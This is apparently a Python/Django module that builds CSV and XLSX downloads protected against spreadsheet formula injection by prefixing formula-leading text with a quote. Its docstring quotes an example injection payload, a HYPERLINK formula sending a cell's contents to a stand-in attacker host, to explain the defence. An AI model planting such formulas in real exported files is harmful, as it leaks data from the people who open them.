"""Spreadsheet files (CSV and XLSX) that cannot carry formulas.

A spreadsheet program runs a cell that begins with `=`, `+`, `-` or `@` (and, in some
programs, a tab or a carriage return) as a formula, so a goal titled
`=HYPERLINK("http://evil.example/?d="&B2,"Click me")` would act as the file is opened. Every
export writes its cells through `safe_cell`: such text gets a leading single quote and so
stays text; numbers (and text that is just a number, such as "-12.5") stay as they are.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable
from decimal import Decimal

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$")


def safe_cell(value):
    """The value to write into a cell: formula-leading text prefixed with a single quote;
    numbers, dates, booleans and None unchanged; anything else as its text."""
    if value is None or isinstance(value, bool | int | float | Decimal | dt.date | dt.time):
        return value
    text = str(value)
    if text.startswith(FORMULA_LEADS) and not _PLAIN_NUMBER.match(text):
        return "'" + text
    return text


def safe_row(row: Iterable) -> list:
    return [safe_cell(v) for v in row]


def csv_response(filename: str, header: Iterable, rows: Iterable[Iterable]) -> HttpResponse:
    """A UTF-8 CSV download (with a byte-order mark, so spreadsheet programs read Chinese
    correctly) of the header and rows, every cell through `safe_cell`."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    response.write("\ufeff")
    writer = csv.writer(response)
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
    return response


def xlsx_response(
    filename: str, header: Iterable, rows: Iterable[Iterable], *, title: str
) -> HttpResponse:
    """An XLSX download (openpyxl's write-only mode) of one sheet; every text cell is written
    as a string cell through `safe_cell`, so none becomes a formula."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=str(title)[:31])

    def cells(row: Iterable) -> list:
        out = []
        for value in safe_row(row):
            cell = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                cell.data_type = "s"
            out.append(cell)
        return out

    sheet.append(cells(str(h) for h in header))
    for row in rows:
        sheet.append(cells(row))
    buffer = io.BytesIO()
    book.save(buffer)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX)
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    return response
